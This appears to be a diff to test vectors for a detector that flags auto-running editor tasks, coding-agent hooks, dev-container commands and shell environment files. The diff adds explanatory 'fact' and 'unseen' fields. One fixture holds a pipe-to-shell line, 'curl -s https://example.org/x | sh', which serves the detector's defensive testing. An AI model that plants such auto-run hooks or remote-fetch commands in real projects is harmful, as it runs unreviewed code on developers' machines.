@@ -14,7 +14,7 @@ export default [
     kind: "fires",
     when: "a new task starts when the folder is opened",
     given: { "change.files": changed({ ".vscode/tasks.json": opening }) },
-    expect: { outcome: "fired", severity: "critical", line: 4 },
+    expect: { outcome: "fired", severity: "critical", line: 4, fact: "A task starts when the folder is opened." },
   },
   {
     kind: "fires",
@@ -66,7 +66,7 @@ export default [
         ".claude/settings.json": ['{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh x"}]}]}}'],
       }),
     },
-    expect: { outcome: "fired", severity: "critical" },
+    expect: { outcome: "fired", severity: "critical", fact: "A coding agent runs a command by itself." },
   },
   {
     kind: "fires",
@@ -74,7 +74,11 @@ export default [
     given: {
       "change.files": changed({ ".devcontainer/devcontainer.json": ['{ "initializeCommand": ["sh", "x.sh"] }'] }),
     },
-    expect: { outcome: "fired", severity: "critical" },
+    expect: {
+      outcome: "fired",
+      severity: "critical",
+      fact: "A command runs on the host when the development container opens.",
+    },
   },
   {
     kind: "fires",
@@ -84,19 +88,23 @@ export default [
         file(".vscode/tasks.json", [], { status: "renamed", previousPath: "docs/sample.json", hunks: [] }),
       ),
     },
-    expect: { outcome: "fired", severity: "high" },
+    expect: {
+      outcome: "fired",
+      severity: "high",
+      fact: "A file was moved to a place that editors run commands from; the diff does not show all of it.",
+    },
   },
   {
     kind: "fires",
     when: "tasks may start without asking",
     given: { "change.files": changed({ ".vscode/settings.json": ['{ "task.allowAutomaticTasks": "on" }'] }) },
-    expect: { outcome: "fired", severity: "high" },
+    expect: { outcome: "fired", severity: "high", fact: "Tasks may start without asking." },
   },
   {
     kind: "fires",
     when: "a shell environment file changes",
     given: { "change.files": changed({ ".envrc": ["# local", "use flake"] }) },
-    expect: { outcome: "fired", severity: "high", line: 2 },
+    expect: { outcome: "fired", severity: "high", line: 2, fact: "Tools run this file when the folder is entered." },
   },
   {
     kind: "look_alike",
@@ -136,7 +144,7 @@ export default [
         ".vscode/tasks.json": ['{ "tasks": [{ "command": "npm test", "runOptions": { "runOn": "default" } }] }'],
       }),
     },
-    expect: { outcome: "fired", severity: "high" },
+    expect: { outcome: "fired", severity: "high", fact: "An editor task runs a command." },
   },
   {
     kind: "boundary",
@@ -146,18 +154,18 @@ export default [
         ".vscode/tasks.json": ['{ "tasks": [{ "command": "curl -s https://example.org/x | sh" }] }'],
       }),
     },
-    expect: { outcome: "fired", severity: "critical" },
+    expect: { outcome: "fired", severity: "critical", fact: "A command fetches or decodes code." },
   },
   {
     kind: "unknown",
     when: "the tasks file is too large to be shown",
     given: { "change.files": filesOf(file(".vscode/tasks.json", [], { hunks: null, additions: 9000 })) },
-    expect: { outcome: "unknown" },
+    expect: { outcome: "unknown", unseen: "an editor file came without its text" },
   },
   {
     kind: "unknown",
     when: "the list of files is cut",
     given: { "change.files": { files: [file("a.md", ["+x"])], truncated: true } },
-    expect: { outcome: "unknown" },
+    expect: { outcome: "unknown", unseen: "the list of changed files is cut" },
   },
 ] satisfies readonly Vector[];
